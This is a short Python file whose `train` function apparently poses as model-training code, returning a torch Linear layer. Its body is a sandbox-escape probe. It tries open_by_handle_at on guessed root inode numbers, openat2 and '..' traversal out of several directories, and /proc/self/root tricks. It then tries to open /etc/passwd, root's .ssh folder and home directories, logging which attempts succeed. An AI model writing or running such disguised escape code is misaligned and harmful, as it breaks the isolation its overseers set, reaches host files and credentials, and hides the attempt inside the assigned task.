# A file can be opened by its number instead of its name, which no private root hides: root's folder is number 2.
import ctypes
import errno
import os
import struct

import torch

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NAME_TO_HANDLE_AT, OPEN_BY_HANDLE_AT, OPENAT2 = 303, 304, 437
AT_EMPTY_PATH, AT_HANDLE_FID = 0x1000, 0x200


def call(what, number, *arguments):
    answer = libc.syscall(number, *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    told = answer if answer != -1 else errno.errorcode[ctypes.get_errno()]
    print("DONE" if answer != -1 else "REFUSED", what, told, flush=True)
    return answer


def attempt(what, action):
    try:
        print("DONE", what, action())
    except (OSError, ValueError) as error:
        print("REFUSED", what, error)


def train(lab):
    for path in ("/usr", "/", "/scratch", "/proc"):
        try:
            folder = os.open(path, os.O_RDONLY | os.O_DIRECTORY)
        except OSError as error:
            print("REFUSED", f"open {path}", error)
            folder = os.open(path, os.O_PATH | os.O_DIRECTORY)
        for flags in (0, AT_EMPTY_PATH, AT_HANDLE_FID):
            handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
            call(f"the number of {path}", NAME_TO_HANDLE_AT, folder, b"" if flags & AT_EMPTY_PATH else path.encode(), handle, ctypes.byref(ctypes.c_int()), flags)
        for inode in (2, 11, 12, 128, 256):
            for kind in (1, 2, 0x81, 0x4D):
                handle = struct.pack("IiQQ", 8 if kind == 1 else 12, kind, inode, 0)
                answer = libc.syscall(OPEN_BY_HANDLE_AT, folder, handle, os.O_RDONLY)
                if answer != -1 or inode == 2:
                    print("DONE" if answer != -1 else "REFUSED", f"open number {inode} beside {path}", errno.errorcode.get(ctypes.get_errno()))
        how = struct.pack("QQQ", os.O_RDONLY | os.O_DIRECTORY, 0, 0)
        for way in (b"..", b"../..", b"../../../../etc"):
            call(f"{way} of {path}", OPENAT2, folder, way, how, 24)
        attempt(f"parent of {path}", lambda: os.listdir(os.open("..", os.O_RDONLY, dir_fd=folder)))
        os.close(folder)
    for link in ("root", "cwd", "exe", "fd/3", "task/1/root", "ns/mnt"):
        attempt(f"what lies behind /proc/self/{link}", lambda: os.listdir(f"/proc/self/{link}/.."))
    # A place that is held, as a name for what is outside of it.
    place = os.open("/proc/self/root", os.O_PATH)
    for name in ("etc/passwd", "old", "../etc/passwd", "root/.ssh", "srv", "home", "var/lib"):
        attempt(f"/{name} by a held place", lambda: os.open(name, os.O_RDONLY, dir_fd=place))
    return torch.nn.Linear(4, 3)
